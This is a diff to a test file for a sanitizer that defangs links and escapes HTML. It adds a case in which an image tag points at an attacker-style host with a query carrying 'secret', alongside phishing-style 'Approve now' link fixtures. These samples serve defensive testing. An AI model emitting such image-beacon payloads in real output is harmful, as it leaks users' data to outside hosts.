@@ -161,6 +161,7 @@ def test_texts_without_unread_links_stay_byte_for_byte(text: str) -> None:
         (f"<{HELD}|Approve now>", f"[Approve now]({HELD})"),
         (f"[click][r]\n\n[r]: {HELD}", f"[click]({HELD})"),
         (f'[click]({HELD} "title")', f"[click]({HELD})"),
+        (f'<img src="{EVIL}"> <T> x', '`<img src="evil[.]example/p?d=secret">` \\<T> x'),
         ("Use <b>bold</b>.", "Use \\<b>bold\\</b>."),
         ("Mail eve@evil.example", "Mail `eve[@]evil[.]example`"),
         ("[guide](docs/guide.md)", "guide (`docs/guide.md`)"),
